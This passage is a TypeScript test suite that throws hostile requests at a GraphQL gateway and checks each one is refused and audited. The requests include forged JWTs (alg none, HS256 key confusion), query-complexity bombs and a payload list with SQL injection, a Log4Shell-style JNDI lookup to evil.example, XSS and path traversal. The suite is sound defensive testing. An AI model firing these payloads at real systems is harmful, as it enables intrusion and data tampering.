import { randomUUID } from 'node:crypto';
import { exportSPKI, generateKeyPair, importJWK, SignJWT, type KeyLike } from 'jose';
import type { Client } from 'pg';
import { gatewayCallHeaders, loadOrCreateHubInternalKey, loadOrCreateLocalIssuer, Role, signSubgraphToken, type HubInternalKey, type LocalIssuer, type Principal } from '../identity';
import { forgeHs256, forgeToken, nowSeconds, tamperPayload } from '../identity/identity.fixture';
import { hashTerm, loadAuditKey, TRUNCATED_VARIABLES_KEY } from '../access-log';
import { databaseUrl, withClient } from '../platform/database';
import { testConfig, testDatabase } from './database';
import { callers, useTestHub } from './harness';

// Hostile input against the real stack (every subgraph, the gateway, PostgreSQL, the audit log).
// Every attempt must get a 4xx or a coded GraphQL error, leave exactly one access event that says
// it was refused, return nothing the caller may not see, and leave the gateway serving.

const t = useTestHub();
let issuer: LocalIssuer;
beforeAll(async () => {
  issuer = await loadOrCreateLocalIssuer(testConfig().SECRETS_DIR);
});

// After every attempt the gateway still answers an ordinary query in full.
afterEach(async () => {
  const { status, body } = await t.query(`{ operations(first: 1) { edges { node { code } } } }`);
  expect(status).toBe(200);
  expect(body.errors).toBeUndefined();
  expect(body.data.operations.edges).toHaveLength(1);
});

const admin = <T>(work: (client: Client) => Promise<T>) => withClient(databaseUrl(testDatabase()), work);

/** The access events logged for a request id (`x-request-id`). */
async function eventsOf(requestId: string): Promise<any[]> {
  const { rows } = await admin((c) => c.query(`select event from audit.access_event where request_id = $1`, [requestId]));
  return rows.map((r) => r.event);
}

/** Exactly one event for `requestId`, refused with `code` (any code when omitted), having called no subgraph. */
async function expectRefusedEvent(requestId: string, code?: string | RegExp): Promise<any> {
  const events = await eventsOf(requestId);
  expect(events).toHaveLength(1);
  const [event] = events;
  expect(event.outcome).toBe('refused');
  expect(event.subgraphs).toEqual([]);
  expect(event.records).toEqual([]);
  if (typeof code === 'string') expect(event.refusalCode).toBe(code);
  else if (code) expect(event.refusalCode).toMatch(code);
  return event;
}

interface RawResponse {
  status: number;
  text: string;
  json: any;
  headers: Headers;
}

/** Sends anything at all to a URL (the gateway by default), tagged with a fresh request id. */
async function send(init: { method?: string; headers?: Record<string, string>; body?: string | Uint8Array; url?: string; search?: string; as?: keyof typeof callers | null; requestId?: string }): Promise<RawResponse & { requestId: string }> {
  const requestId = init.requestId ?? `hostile-${randomUUID()}`;
  const caller = init.as === undefined ? callers.hubAdmin : init.as === null ? null : callers[init.as];
  const response = await fetch(`${init.url ?? t.gatewayUrl}${init.search ?? ''}`, {
    method: init.method ?? 'POST',
    headers: {
      'x-request-id': requestId,
      'x-purpose': 'hostile input suite',
      ...(caller ? { authorization: `Bearer ${await t.token(caller)}` } : {}),
      ...init.headers,
    },
    body: init.body,
  });
  const text = await response.text();
  let json: any = null;
  try {
    json = JSON.parse(text);
  } catch {
    json = null;
  }
  return { status: response.status, text, json, headers: response.headers, requestId };
}

/** POSTs a GraphQL request as JSON. */
const post = (payload: unknown, options: { headers?: Record<string, string>; as?: keyof typeof callers | null } = {}) =>
  send({ headers: { 'content-type': 'application/json', ...options.headers }, body: JSON.stringify(payload), as: options.as });

/** No data, or root fields that are all null. */
const nothingReturned = (data: unknown) => data === undefined || data === null || Object.values(data as object).every((v) => v === null);

/** A coded GraphQL error and nothing returned, without a server error. */
function expectCodedError(response: RawResponse, code: string | RegExp): void {
  expect(response.status).toBeLessThan(500);
  expect(response.json?.errors?.length).toBeGreaterThan(0);
  const first = response.json.errors[0];
  if (typeof code === 'string') expect(first.extensions?.code).toBe(code);
  else expect(first.extensions?.code).toMatch(code);
  expect(nothingReturned(response.json.data)).toBe(true);
}

/** A refused request: a 4xx, a GraphQL error body with a code, and no data at all. */
function expectRefusal(response: RawResponse, status: number, code: string | RegExp): void {
  expect(response.status).toBe(status);
  expect(status).toBeGreaterThanOrEqual(400);
  expectCodedError(response, code);
  expect(response.json.data ?? null).toBeNull();
}

const OPERATION_FIELDS = 'code name status period { start end }';

describe('HTTP', () => {
  test('malformed JSON is a 400 BAD_REQUEST', async () => {
    const response = await send({ headers: { 'content-type': 'application/json' }, body: '{"query": "{ operations(first: 1) { edges { cursor } } }"' });
    expectRefusal(response, 400, 'BAD_REQUEST');
    expect(response.json.errors[0].message).toMatch(/not valid JSON/);
    await expectRefusedEvent(response.requestId, 'BAD_REQUEST');
  });

  test.each([
    ['text/plain (a simple request a browser sends cross-site)', 'text/plain'],
    ['a form', 'application/x-www-form-urlencoded'],
    ['multipart', 'multipart/form-data; boundary=x'],
    ['XML', 'application/xml'],
    ['no content type', ''],
  ])('a POST with %s is a 415 and nothing runs', async (_name, contentType) => {
    const code = `HOSTILE-CT-${randomUUID().slice(0, 8)}`;
    const response = await send({
      headers: contentType ? { 'content-type': contentType } : {},
      body: JSON.stringify({ query: `mutation { createOperation(input: { code: "${code}", name: "x", startsOn: "2026-01-01", endsOn: "2026-01-02", borderTypes: [AIR], crimeAreas: [DRUGS], leadOrganisation: "hub", participatingCountries: ["FRA"], databasesEnabled: [STOLEN_LOST_TRAVEL_DOCUMENTS] }) { id } }` }),
    });
    expectRefusal(response, 415, 'UNSUPPORTED_MEDIA_TYPE');
    await expectRefusedEvent(response.requestId, 'UNSUPPORTED_MEDIA_TYPE');
    expect((await t.ok(`query($code: String!) { operation(code: $code) { id } }`, { code })).operation).toBeNull();
  });

  test.each(['PUT', 'DELETE', 'PATCH'])('%s is a 405', async (method) => {
    const response = await send({ method, headers: { 'content-type': 'application/json' }, body: '{"query":"{ __typename }"}' });
    expectRefusal(response, 405, 'METHOD_NOT_ALLOWED');
    expect(response.headers.get('allow')).toBe('GET, POST');
    await expectRefusedEvent(response.requestId, 'METHOD_NOT_ALLOWED');
  });

  describe('a mutation sent with GET', () => {
    const mutation = (code: string) =>
      `mutation { createOperation(input: { code: "${code}", name: "x", startsOn: "2026-01-01", endsOn: "2026-01-02", borderTypes: [AIR], crimeAreas: [DRUGS], leadOrganisation: "hub", participatingCountries: ["FRA"], databasesEnabled: [STOLEN_LOST_TRAVEL_DOCUMENTS] }) { id } }`;

    test('without a preflight header is stopped by CSRF prevention (400), before any context', async () => {
      const code = `HOSTILE-GET-${randomUUID().slice(0, 8)}`;
      const response = await send({ method: 'GET', search: `?query=${encodeURIComponent(mutation(code))}` });
      expectRefusal(response, 400, 'BAD_REQUEST');
      expect(response.json.errors[0].message).toMatch(/Cross-Site Request Forgery/);
      await expectRefusedEvent(response.requestId, 'BAD_REQUEST');
      expect((await t.ok(`query($code: String!) { operation(code: $code) { id } }`, { code })).operation).toBeNull();
    });

    test('with a preflight header is refused by Apollo Server (405): GET runs queries only', async () => {
      const code = `HOSTILE-GET-${randomUUID().slice(0, 8)}`;
      const response = await send({ method: 'GET', search: `?query=${encodeURIComponent(mutation(code))}`, headers: { 'apollo-require-preflight': 'true' } });
      expectRefusal(response, 405, 'BAD_REQUEST');
      const event = await expectRefusedEvent(response.requestId, 'BAD_REQUEST');
      expect(event.principal).toMatchObject({ organisation: 'hub' });
      expect((await t.ok(`query($code: String!) { operation(code: $code) { id } }`, { code })).operation).toBeNull();
    });
  });

  test('a GET query with a preflight header is served (the refusals above are about the method, not GET)', async () => {
    const response = await send({ method: 'GET', search: `?query=${encodeURIComponent('{ operations(first: 1) { edges { cursor } } }')}`, headers: { 'apollo-require-preflight': 'true' } });
    expect(response.status).toBe(200);
    expect(response.json.data.operations.edges).toHaveLength(1);
  });

  test('a body over the limit is a 413 before it is read, whether declared or streamed', async () => {
    const huge = JSON.stringify({ query: '{ __typename }', variables: { padding: 'x'.repeat(2_000_000) } });
    const declared = await send({ headers: { 'content-type': 'application/json' }, body: huge });
    expectRefusal(declared, 413, 'PAYLOAD_TOO_LARGE');
    await expectRefusedEvent(declared.requestId, 'PAYLOAD_TOO_LARGE');

    // Chunked, without content-length: refused once the limit is passed, whatever follows.
    const requestId = `hostile-${randomUUID()}`;
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 50_000_000) return controller.close();
        sent += 65_536;
        controller.enqueue(new Uint8Array(65_536).fill(0x20));
      },
    });
    const response = await fetch(t.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json', 'x-request-id': requestId }, body: stream, duplex: 'half' } as RequestInit).catch(() => null);
    // The server may cut the connection before the client reads the answer; either way it stopped reading.
    if (response) expect(response.status).toBe(413);
    expect(sent).toBeLessThan(50_000_000);
    await expectRefusedEvent(requestId, 'PAYLOAD_TOO_LARGE');
  });

  test('a JSON array (a batch) is a 400 that says batching is off', async () => {
    const response = await send({ headers: { 'content-type': 'application/json' }, body: JSON.stringify([{ query: '{ __typename }' }, { query: '{ __typename }' }]) });
    expectRefusal(response, 400, 'BAD_REQUEST');
    expect(response.json.errors[0].message).toMatch(/Batched requests/);
    await expectRefusedEvent(response.requestId, 'BAD_REQUEST');
  });

  test.each([
    ['a JSON string', '"{ __typename }"'],
    ['null', 'null'],
    ['an empty body', ''],
    ['an object without a query', '{"variables": {}}'],
    ['a query that is not a string', '{"query": {"kind": "Document"}}'],
    ['variables that are a string', '{"query": "{ __typename }", "variables": "{}"}'],
    ['variables that are a list', '{"query": "{ __typename }", "variables": [1, 2]}'],
    ['extensions that are a string', '{"query": "{ __typename }", "extensions": "x"}'],
  ])('%s is a 400', async (_name, body) => {
    const response = await send({ headers: { 'content-type': 'application/json' }, body });
    expectRefusal(response, 400, 'BAD_REQUEST');
    await expectRefusedEvent(response.requestId, 'BAD_REQUEST');
  });
});

describe('documents too large for the limits', () => {
  test('deep nesting is refused by the depth limit', async () => {
    let selection = 'id';
    for (let i = 0; i < 10; i++) selection = `deployments { checkpoint { ${selection} } }`;
    const response = await post({ query: `{ operations(first: 1) { edges { node { checkpoints { ${selection} } } } } }` });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('depth');
    expect(response.json.errors[0].message).toMatch(/depth limit of 12 exceeded, found \d+/);
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test('nesting thousands of levels deep stops at the token limit, before any recursion', async () => {
    const depth = 20_000;
    const response = await post({ query: `{ ${'operation(code: "A") { checkpoints { '.repeat(depth)}id${' } }'.repeat(depth)} }` });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('tokens');
    expect(response.json.errors[0].message).toMatch(/3000 tokens/);
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test('an alias bomb is refused by the alias limit', async () => {
    const aliases = Array.from({ length: 200 }, (_, i) => `a${i}: code`).join(' ');
    const response = await post({ query: `{ operations(first: 100) { edges { node { ${aliases} } } } }` });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('aliases');
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test('many root fields are refused by the root-field limit', async () => {
    const roots = Array.from({ length: 26 }, (_, i) => `r${i}: operation(code: "ANCHOR-III") { id }`).join(' ');
    const response = await post({ query: `{ ${roots} }` });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('rootFields');
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test('a directive flood is refused by the directive limit', async () => {
    const directives = Array.from({ length: 50 }, () => '@include(if: true)').join(' ');
    const response = await post({ query: `{ operations(first: 1) { edges { node { code ${directives} } } } }` });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('directives');
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test('a fragment bomb (each fragment spreading the one below twice) is refused quickly', async () => {
    const levels = 12;
    const fragments = [`fragment F0 on Operation { ${OPERATION_FIELDS} }`];
    for (let i = 1; i <= levels; i++) {
      fragments.push(`fragment F${i} on Operation { checkpoints { deployments { operation { ...F${i - 1} } } } deployments { operation { ...F${i - 1} } } }`);
    }
    const started = performance.now();
    const response = await post({ query: `{ operations(first: 100) { edges { node { ...F${levels} } } } } ${fragments.join(' ')}` });
    expect(performance.now() - started).toBeLessThan(2_000);
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test('the same fragment spread 900 times is refused by its cost', async () => {
    const spreads = Array.from({ length: 900 }, () => '...F').join(' ');
    const response = await post({ query: `{ operations(first: 100) { edges { node { ${spreads} } } } } fragment F on Operation { checkpoints { deployments { officersAssigned } } }` });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('cost');
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });

  test.each([
    ['a fragment spreading itself', `{ operations(first: 1) { edges { node { ...A } } } } fragment A on Operation { code ...A }`],
    ['two fragments spreading each other', `{ operations(first: 1) { edges { node { ...A } } } } fragment A on Operation { checkpoints { deployments { operation { ...B } } } } fragment B on Operation { code ...A }`],
  ])('%s (a cycle) is a validation error, not a hang', async (_name, query) => {
    const response = await post({ query });
    expectRefusal(response, 400, 'GRAPHQL_VALIDATION_FAILED');
    expect(response.json.errors.map((e: any) => e.message).join(' ')).toMatch(/Cannot spread fragment "A" within itself/);
    await expectRefusedEvent(response.requestId, 'GRAPHQL_VALIDATION_FAILED');
  });
});

describe('page sizes', () => {
  test.each([
    ['a literal 1e9 (not an Int)', `{ operations(first: 1e9) { edges { cursor } } }`, undefined, 'GRAPHQL_VALIDATION_FAILED'],
    ['a literal above 2^31', `{ operations(first: 2147483648) { edges { cursor } } }`, undefined, 'GRAPHQL_VALIDATION_FAILED'],
    ['a literal above MAX_PAGE_SIZE', `{ operations(first: 101) { edges { cursor } } }`, undefined, 'BAD_USER_INPUT'],
    ['a variable of 1e9', `query($n: Int!) { operations(first: $n) { edges { cursor } } }`, { n: 1e9 }, 'BAD_USER_INPUT'],
    ['a variable of -1', `query($n: Int!) { checkpoints(first: $n) { edges { cursor } } }`, { n: -1 }, 'BAD_USER_INPUT'],
    ['a variable of 1e300', `query($n: Int!) { hits(first: $n) { edges { cursor } } }`, { n: 1e300 }, 'BAD_USER_INPUT'],
    ['a variable default of 5000', `query($n: Int! = 5000) { courses(first: $n) { edges { cursor } } }`, undefined, 'BAD_USER_INPUT'],
    ['a big page under an alias inside a fragment', `{ ...Q } fragment Q on Query { x: participants(first: 1000000) { edges { cursor } } }`, undefined, 'BAD_USER_INPUT'],
  ])('%s is refused before any subgraph is called', async (_name, query, variables, code) => {
    const response = await post({ query, variables });
    expectRefusal(response, 400, code);
    await expectRefusedEvent(response.requestId, code);
  });

  test('nested pages multiply: small pages that would fetch too much together are refused by cost', async () => {
    const response = await post({
      query: `query($n: Int!) { a: operations(first: $n) { edges { node { trainingSessions { enrollments { participant { checkpoint { deployments { operation { code checkpoints { name } } } } } } } } } } b: operations(first: $n) { edges { node { trainingSessions { enrollments { participant { checkpoint { deployments { operation { code checkpoints { name } } } } } } } } } } }`,
      variables: { n: 100 },
    });
    expectRefusal(response, 400, 'OPERATION_TOO_COMPLEX');
    expect(response.json.errors[0].extensions.limit).toBe('cost');
    await expectRefusedEvent(response.requestId, 'OPERATION_TOO_COMPLEX');
  });
});

describe('variables', () => {
  test.each([
    ['a string for an Int', `query($n: Int!) { operations(first: $n) { edges { cursor } } }`, { n: 'ten' }],
    ['an object for a String', `query($c: String) { operation(code: $c) { id } }`, { c: { $ne: null } }],
    ['a missing required variable', `query($c: String!) { operation(code: $c) { id } }`, {}],
    ['an unknown enum value', `query($s: OperationStatus) { operations(first: 1, filter: { status: $s }) { edges { cursor } } }`, { s: 'ALL' }],
    ['an unknown input field', `query($f: OperationFilter) { operations(first: 1, filter: $f) { edges { cursor } } }`, { f: { status: 'ACTIVE', sql: '1=1' } }],
  ])('%s is a 400 BAD_USER_INPUT', async (_name, query, variables) => {
    const response = await post({ query, variables });
    expectRefusal(response, 400, 'BAD_USER_INPUT');
    await expectRefusedEvent(response.requestId, 'BAD_USER_INPUT');
  });

  // The gateway passes custom scalars through; the subgraph that owns CountryCode refuses them.
  test.each([
    ['a country code the scalar refuses', { country: "' OR 1=1 --" }],
    ['a list for a country code', { country: ['FRA', 'THA'] }],
    ['a list nested 50,000 deep for a country code', '{"country": ' + '['.repeat(50_000) + ']'.repeat(50_000) + '}'],
  ])('%s is a coded BAD_USER_INPUT with nothing returned', async (_name, filter) => {
    const variables = typeof filter === 'string' ? filter : JSON.stringify(filter);
    const response = await send({
      headers: { 'content-type': 'application/json' },
      body: `{"query": "query($f: CheckpointFilter) { checkpoints(first: 1, filter: $f) { edges { node { name } } } }", "variables": {"f": ${variables}}}`,
    });
    expectCodedError(response, 'BAD_USER_INPUT');
    const [event] = await eventsOf(response.requestId);
    expect(event).toMatchObject({ outcome: 'refused', refusalCode: 'BAD_USER_INPUT', records: [] });
  });

  test('oversized variables (a 600 kB value, inside the body limit) are answered, not crashed on', async () => {
    const response = await post({ query: `query($c: String) { operation(code: $c) { id } }`, variables: { c: 'A'.repeat(600_000) } });
    expect(response.status).toBeLessThan(500);
    if (response.json.errors) expect(response.json.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    else expect(response.json.data.operation).toBeNull();
    const [event] = await eventsOf(response.requestId);
    expect(['ok', 'refused']).toContain(event.outcome);
    expect(JSON.stringify(event)).not.toContain('AAAAAAAAAA');
  });

  test('thousands of variables are kept as a bounded number of hashes', async () => {
    const variables = Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`v${i}`, i]));
    const response = await post({ query: `{ operations(first: 1) { edges { cursor } } }`, variables });
    expect(response.status).toBe(200);
    const [event] = await eventsOf(response.requestId);
    // The first 1,000 leaves, each as its keyed hash, and the truncation key counting the 4,000 left out.
    const auditKey = loadAuditKey(testConfig().SECRETS_DIR);
    const expected = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`v${i}`, hashTerm(i, auditKey)]));
    expect(event.variables).toEqual({ ...expected, [TRUNCATED_VARIABLES_KEY]: '4000' });
  });
});

describe('forged tokens', () => {
  const query = JSON.stringify({ query: `{ operations(first: 1) { edges { node { code } } } }` });
  const claims = () => ({ iss: issuer.issuer, aud: issuer.audience, sub: 'forger', org: 'hub', roles: [Role.HUB_ADMIN], clearance: 'CONFIDENTIAL', iat: nowSeconds(), exp: nowSeconds() + 600 });
  const sign = (payload: Record<string, unknown>, header: Record<string, unknown> = {}, key: KeyLike = issuer.privateKey) =>
    new SignJWT(payload).setProtectedHeader({ alg: 'ES256', kid: issuer.publicJwk.kid!, typ: 'JWT', ...header }).sign(key);

  test.each<[string, () => Promise<string> | string]>([
    ['alg none', () => forgeToken({ alg: 'none', kid: issuer.publicJwk.kid, typ: 'JWT' }, claims())],
    ['HS256 keyed with the issuer public key (PEM)', async () => forgeHs256({ kid: issuer.publicJwk.kid }, claims(), await exportSPKI((await importJWK(issuer.publicJwk, 'ES256')) as KeyLike))],
    ['HS256 keyed with the issuer public JWK', () => forgeHs256({ kid: issuer.publicJwk.kid }, claims(), JSON.stringify(issuer.publicJwk))],
    ['an expired token', () => sign({ ...claims(), iat: nowSeconds() - 7200, exp: nowSeconds() - 3600 })],
    ['a token not valid yet', () => sign({ ...claims(), nbf: nowSeconds() + 3600 })],
    ['a wrong issuer', () => sign({ ...claims(), iss: 'https://evil.example' })],
    ['a wrong audience', () => sign({ ...claims(), aud: 'another-hub' })],
    ['an unknown kid', () => sign(claims(), { kid: 'rotated-away-2019' })],
    ['no kid', () => sign(claims(), { kid: undefined })],
    ['a tampered payload (officer promoted to administrator)', async () => tamperPayload(await t.token(callers.officerTha), (p) => ({ ...p, org: 'hub', roles: ['HUB_ADMIN'], clearance: 'CONFIDENTIAL' }))],
    ['a signature cut off', async () => `${(await t.token(callers.hubAdmin)).split('.').slice(0, 2).join('.')}.`],
    ['an organisation the issuer is not trusted for', () => sign({ ...claims(), org: 'evil-corp' })],
    ['a token of 10 kB', () => forgeToken({ alg: 'ES256', kid: issuer.publicJwk.kid }, { ...claims(), pad: 'x'.repeat(10_000) }, 'c2ln')],
  ])('%s is a 401 and nothing runs', async (_name, forge) => {
    const token = await forge();
    const response = await send({ as: null, headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: query });
    expectRefusal(response, 401, 'UNAUTHENTICATED');
    expect(response.text).not.toContain(token.split('.')[1].slice(0, 20));
    const event = await expectRefusedEvent(response.requestId, 'UNAUTHENTICATED');
    expect(event.principal).toBeNull();
  });
});

describe('no way around the gateway', () => {
  let gatewayKey: HubInternalKey;
  beforeAll(async () => {
    gatewayKey = await loadOrCreateHubInternalKey(testConfig().SECRETS_DIR);
  });
  /** Every subgraph the hub runs; checked, so that a loop over none cannot pass. */
  const subgraphs = () => {
    const all = [...t.hub.subgraphs].map(([name, { url }]) => ({ name, url }));
    expect(all.map((s) => s.name).sort()).toEqual(['audit', 'frontex', 'iom', 'operations', 'training', 'wco']);
    return all;
  };
  const caller: Principal = { subject: 'direct-caller', organisation: 'hub', country: null, roles: [Role.HUB_ADMIN], scopes: [], clearance: null, expiresAt: new Date(Date.now() + 3_600_000) };
  /** A token the gateway would sign, for `audience`, with the gateway's key (or another one under its key id). */
  const gatewayToken = (audience: string, key: Pick<HubInternalKey, 'kid' | 'privateKey'> = gatewayKey) => signSubgraphToken(key, { audience, principal: caller });

  /** Exactly one event for a direct call, recorded by the subgraph that refused it, naming only that subgraph. */
  async function expectDirectRefusal(requestId: string, subgraph: string, code: string): Promise<void> {
    const events = await eventsOf(requestId);
    expect({ subgraph, code, events: events.length }).toEqual({ subgraph, code, events: 1 });
    expect(events[0]).toMatchObject({ receivedBy: subgraph, outcome: 'refused', refusalCode: code, subgraphs: [subgraph], principal: null, records: [], variables: {} });
  }

  test('every subgraph refuses a direct call without the gateway\'s token, or with a client token (401), and logs it as refused', async () => {
    for (const { name, url } of subgraphs()) {
      for (const as of [null, 'hubAdmin'] as const) {
        const response = await send({ url, as, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: '{ _service { sdl } }' }) });
        expect({ name, as, status: response.status }).toEqual({ name, as, status: 401 });
        expect(response.json.errors[0].extensions.code).toBe('UNAUTHENTICATED');
        expect(response.text).not.toMatch(/type Query|_Entity/);
        // Looked up as soon as the answer is in: the event was committed before it left.
        await expectDirectRefusal(response.requestId, name, 'UNAUTHENTICATED');
      }
    }
  });

  test.each<[string, (subgraph: string, others: string[]) => Promise<Record<string, string>>]>([
    ['a token forged under the gateway\'s key id', async (subgraph) => ({ authorization: `Bearer ${await gatewayToken(subgraph, { kid: gatewayKey.kid, privateKey: (await generateKeyPair('ES256')).privateKey })}` })],
    ['a gateway token signed for another subgraph', async (_subgraph, others) => ({ authorization: `Bearer ${await gatewayToken(others[0])}` })],
    ['a malformed Authorization header', async () => ({ authorization: 'Basic YWRtaW46YWRtaW4=' })],
  ])('every subgraph refuses %s (401) and logs it as refused', async (_name, credentials) => {
    for (const { name, url } of subgraphs()) {
      const others = subgraphs().map((s) => s.name).filter((n) => n !== name);
      const response = await send({ url, as: null, headers: { 'content-type': 'application/json', ...(await credentials(name, others)) }, body: JSON.stringify({ query: '{ __typename }' }) });
      expect({ name, status: response.status }).toEqual({ name, status: 401 });
      expect(response.json.errors[0].extensions.code).toBe('UNAUTHENTICATED');
      await expectDirectRefusal(response.requestId, name, 'UNAUTHENTICATED');
    }
  });

  test.each<[string, () => { method?: string; headers: Record<string, string>; body?: string }, number, string]>([
    ['malformed JSON', () => ({ headers: { 'content-type': 'application/json' }, body: '{"query": "{ __typename }"' }), 400, 'BAD_REQUEST'],
    ['a batch', () => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify([{ query: '{ __typename }' }]) }), 400, 'BAD_REQUEST'],
    ['a body over SUBGRAPH_MAX_BODY_BYTES', () => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: '{ __typename }', variables: { pad: 'x'.repeat(testConfig().SUBGRAPH_MAX_BODY_BYTES) } }) }), 413, 'PAYLOAD_TOO_LARGE'],
    ['a form POST', () => ({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'query=%7B__typename%7D' }), 415, 'UNSUPPORTED_MEDIA_TYPE'],
    ['DELETE', () => ({ method: 'DELETE', headers: {} }), 405, 'METHOD_NOT_ALLOWED'],
    ['a GET without a preflight header (CSRF prevention)', () => ({ method: 'GET', headers: {} }), 400, 'BAD_REQUEST'],
  ])('every subgraph refuses %s without a token and logs it as refused', async (_name, request, status, code) => {
    for (const { name, url } of subgraphs()) {
      const { method, headers, body } = request();
      const response = await send({ url, as: null, method, headers, body, search: method === 'GET' ? '?query=%7B__typename%7D' : '' });
      expect({ name, status: response.status, code: response.json?.errors?.[0]?.extensions?.code }).toEqual({ name, status, code });
      await expectDirectRefusal(response.requestId, name, code);
    }
  });

  test('a refusal of a call the gateway signed is left to the gateway\'s event: the subgraph logs nothing', async () => {
    for (const { name, url } of subgraphs()) {
      // Signed as the gateway signs a call: the token, and the proof binding it to this request id and body.
      const body = '{"query": ';
      const requestId = `hostile-${randomUUID()}`;
      const signed = gatewayCallHeaders(gatewayKey, name, await gatewayToken(name), body, requestId);
      const response = await send({ url, as: null, requestId, headers: { 'content-type': 'application/json', ...signed }, body });
      expect({ name, status: response.status }).toEqual({ name, status: 400 });
      expect(await eventsOf(response.requestId)).toEqual([]);
    }
  });

  test('a query through the gateway leaves one event, the gateway\'s, whatever subgraphs it calls', async () => {
    const response = await post({ query: `{ operation(code: "ANCHOR-III") { code trainingSessions { course { title } } wco { seizureCount } } }` });
    expect(response.status).toBe(200);
    expect(response.json.errors).toBeUndefined();
    const events = await eventsOf(response.requestId);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ receivedBy: 'gateway', outcome: 'ok', subgraphs: ['operations', 'training', 'wco'] });
  });

  test.each([
    ['_entities', `query($r: [_Any!]!) { _entities(representations: $r) { ... on Participant { id fullName } } }`, { r: [{ __typename: 'Participant', id: randomUUID() }] }],
    ['_service', `{ _service { sdl } }`, undefined],
  ])('%s at the gateway is not in the API schema: a validation error', async (_name, query, variables) => {
    const response = await post({ query, variables }, { as: 'trainer' });
    expectRefusal(response, 400, 'GRAPHQL_VALIDATION_FAILED');
    expect(response.text).not.toMatch(/fullName"\s*:/);
    await expectRefusedEvent(response.requestId, 'GRAPHQL_VALIDATION_FAILED');
  });
});

describe('injection-looking strings in every filter and lookup argument', () => {
  const PAYLOADS = [
    "' OR 1=1 --",
    '"; drop table operation; --',
    "x'); delete from audit.access_event; --",
    '%00',
    'nul\u0000byte',
    '\u202eevil\u202d',
    'Ω≈ç√∫˜µ≤≥÷ 🇹🇭 e\u0301',
    '\ud800 lone surrogate',
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    '*',
    '%',
    '_',
    '\\',
  ];

  // Every String/ID argument and String/ID filter field of the API; scalars with their own format
  // (CountryCode, LocalDate, DateTimeISO) refuse such strings during validation.
  // Four entries each: jest would take a missing last argument for a `done` callback.
  const cases: [name: string, query: string, as: keyof typeof callers, list: string | null][] = [
    ['operation(code)', `query($v: String) { operation(code: $v) { id } }`, 'hubAdmin', null],
    ['operation(id)', `query($v: ID) { operation(id: $v) { id } }`, 'hubAdmin', null],
    ['checkpoint(id)', `query($v: ID!) { checkpoint(id: $v) { id } }`, 'hubAdmin', null],
    ['course(id)', `query($v: ID!) { course(id: $v) { id } }`, 'hubAdmin', null],
    ['participant(id)', `query($v: ID!) { participant(id: $v) { id } }`, 'trainer', null],
    ['session(id)', `query($v: ID!) { session(id: $v) { id } }`, 'hubAdmin', null],
    ['operations(filter.partnerOrganisation)', `query($v: String) { operations(first: 5, filter: { partnerOrganisation: $v }) { edges { node { code } } } }`, 'hubAdmin', 'operations'],
    ['hits(filter.operationId)', `query($v: ID) { hits(first: 5, filter: { operationId: $v }) { edges { node { id } } } }`, 'hubAdmin', 'hits'],
    ['hits(filter.checkpointId)', `query($v: ID) { hits(first: 5, filter: { checkpointId: $v }) { edges { node { id } } } }`, 'hubAdmin', 'hits'],
    ['hit(id)', `query($v: ID!) { hit(id: $v) { id } }`, 'hubAdmin', null],
    ['hitNotifications(filter.organisation)', `query($v: String) { hitNotifications(first: 5, filter: { organisation: $v }) { edges { node { id } } } }`, 'hubAdmin', 'hitNotifications'],
    ['participants(filter.agency)', `query($v: String) { participants(first: 5, filter: { agency: $v }) { edges { node { id } } } }`, 'trainer', 'participants'],
    ['participants(filter.checkpointId)', `query($v: ID) { participants(first: 5, filter: { checkpointId: $v }) { edges { node { id } } } }`, 'trainer', 'participants'],
    ['participants(filter.sessionId)', `query($v: ID) { participants(first: 5, filter: { sessionId: $v }) { edges { node { id } } } }`, 'trainer', 'participants'],
    ['sessions(filter.courseId)', `query($v: ID) { sessions(first: 5, filter: { courseId: $v }) { edges { node { id } } } }`, 'hubAdmin', 'sessions'],
    ['sessions(filter.operationId)', `query($v: ID) { sessions(first: 5, filter: { operationId: $v }) { edges { node { id } } } }`, 'hubAdmin', 'sessions'],
    ['frontexRiskAnalyses(operationId)', `query($v: ID) { frontexRiskAnalyses(first: 5, operationId: $v) { edges { node { title } } } }`, 'hubAdmin', 'frontexRiskAnalyses'],
    ['iomReferrals(operationId)', `query($v: ID) { iomReferrals(first: 5, operationId: $v) { edges { node { nationality } } } }`, 'iomLiaison', 'iomReferrals'],
    ['wcoSeizures(operationId)', `query($v: ID) { wcoSeizures(first: 5, operationId: $v) { edges { node { commodity } } } }`, 'hubAdmin', 'wcoSeizures'],
